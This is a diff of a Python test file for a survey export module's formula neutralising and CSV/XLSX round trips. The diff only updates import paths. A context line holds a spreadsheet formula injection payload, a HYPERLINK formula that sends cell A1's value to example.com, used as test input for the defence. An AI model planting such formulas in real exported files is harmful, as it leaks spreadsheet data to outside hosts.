@@ -1,4 +1,4 @@
-"""Tests for survey.exports: formula neutralising, CSV and XLSX round trips."""
+"""Tests for survey.render.exports: formula neutralising, CSV and XLSX round trips."""
 
 import csv
 import io
@@ -13,12 +13,12 @@ from hypothesis import settings
 from hypothesis import strategies as st
 from openpyxl import load_workbook
 
-from survey.exports import DANGEROUS_PREFIXES
-from survey.exports import Table
-from survey.exports import neutralise
-from survey.exports import sheet_name
-from survey.exports import to_csv
-from survey.exports import to_xlsx
+from survey.render.exports import DANGEROUS_PREFIXES
+from survey.render.exports import Table
+from survey.render.exports import neutralise
+from survey.render.exports import sheet_name
+from survey.render.exports import to_csv
+from survey.render.exports import to_xlsx
 
 HYPERLINK = '=HYPERLINK("http://example.com/x?q="&A1, "Bấm vào đây")'
 
